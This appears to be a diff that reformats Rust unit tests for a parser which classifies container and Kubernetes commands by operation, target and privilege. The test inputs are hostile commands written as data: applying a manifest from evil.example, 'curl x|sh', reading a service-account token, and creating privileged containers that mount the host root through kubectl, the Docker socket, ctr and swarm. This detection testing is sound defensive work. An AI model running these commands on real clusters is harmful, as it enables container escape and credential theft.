-        assert_eq!(p.containers[0].mounts[0].host_path.as_ref().map(|h| h.path.as_str()), Some("/"));
+        assert_eq!(
+            p.containers[0].mounts[0]
+                .host_path
+                .as_ref()
+                .map(|h| h.path.as_str()),
+            Some("/")
+        );
         let d = run("kubectl apply -f https://evil.example/ds.yaml -n kube-system");
         assert_eq!(d[0].target.kind, "Manifest");
-        assert_eq!(d[0].target.name.as_deref(), Some("https://evil.example/ds.yaml"));
+        assert_eq!(
+            d[0].target.name.as_deref(),
+            Some("https://evil.example/ds.yaml")
+        );
         assert_eq!(d[0].target.namespace.as_deref(), Some("kube-system"));
         let d = run("kubectl create deployment web --image=nginx -- sh -c 'curl x|sh'");
         assert_eq!(d[0].target.kind, "Deployment");
-        let d = run("kubectl exec -it web-0 -- cat /var/run/secrets/kubernetes.io/serviceaccount/token");
+        let d = run(
+            "kubectl exec -it web-0 -- cat /var/run/secrets/kubernetes.io/serviceaccount/token",
+        );
         assert_eq!(d[0].operation, Operation::Exec);
-        let d = run(r#"kubectl patch deployment web -p '{"spec":{"template":{"spec":{"containers":[{"name":"web","securityContext":{"privileged":true}}]}}}}'"#);
+        let d = run(
+            r#"kubectl patch deployment web -p '{"spec":{"template":{"spec":{"containers":[{"name":"web","securityContext":{"privileged":true}}]}}}}'"#,
+        );
         assert_eq!(d[0].operation, Operation::Patch);
-        assert_eq!(d[0].pod.as_ref().expect("pod").containers[0].security_context.privileged, Some(true));
+        assert_eq!(
+            d[0].pod.as_ref().expect("pod").containers[0]
+                .security_context
+                .privileged,
+            Some(true)
+        );
     }
 
     #[test]
     fn curl_to_the_docker_socket_is_a_create_request() {
-        let d = run(r#"curl -s --unix-socket /var/run/docker.sock -X POST -H 'Content-Type: application/json' -d '{"Image":"alpine","Cmd":["sh"],"HostConfig":{"Binds":["/:/host"],"Privileged":true}}' http://localhost/v1.41/containers/create?name=x"#);
+        let d = run(
+            r#"curl -s --unix-socket /var/run/docker.sock -X POST -H 'Content-Type: application/json' -d '{"Image":"alpine","Cmd":["sh"],"HostConfig":{"Binds":["/:/host"],"Privileged":true}}' http://localhost/v1.41/containers/create?name=x"#,
+        );
         assert_eq!(d.len(), 1);
-        assert_eq!(d[0].endpoint.as_deref(), Some("unix:///var/run/docker.sock"));
+        assert_eq!(
+            d[0].endpoint.as_deref(),
+            Some("unix:///var/run/docker.sock")
+        );
         assert_eq!(d[0].target.name.as_deref(), Some("x"));
         let c = &d[0].pod.as_ref().expect("pod").containers[0];
         assert_eq!(c.security_context.privileged, Some(true));
@@ -936,15 +1308,25 @@ mod tests {
 
     #[test]
     fn ctr_and_builds() {
-        let d = run("ctr -n k8s.io run --privileged --net-host --mount type=bind,src=/,dst=/host,options=rbind:rw docker.io/library/alpine:latest esc sh");
+        let d = run(
+            "ctr -n k8s.io run --privileged --net-host --mount type=bind,src=/,dst=/host,options=rbind:rw docker.io/library/alpine:latest esc sh",
+        );
         let p = d[0].pod.as_ref().expect("pod");
         assert!(p.host_network);
         assert_eq!(p.containers[0].security_context.privileged, Some(true));
-        assert_eq!(p.containers[0].mounts[0].host_path.as_ref().map(|h| h.path.as_str()), Some("/"));
+        assert_eq!(
+            p.containers[0].mounts[0]
+                .host_path
+                .as_ref()
+                .map(|h| h.path.as_str()),
+            Some("/")
+        );
         let d = run("docker build -t t1610 /atomics/T1610/src/");
         assert_eq!(d[0].target.kind, "DockerBuild");
         assert_eq!(d[0].target.name.as_deref(), Some("t1610"));
-        let d = run("docker service create --mode global --name x --mount type=bind,source=/,target=/host alpine");
+        let d = run(
+            "docker service create --mode global --name x --mount type=bind,source=/,target=/host alpine",
+        );
         assert_eq!(d[0].target.kind, "SwarmService");
     }
 }
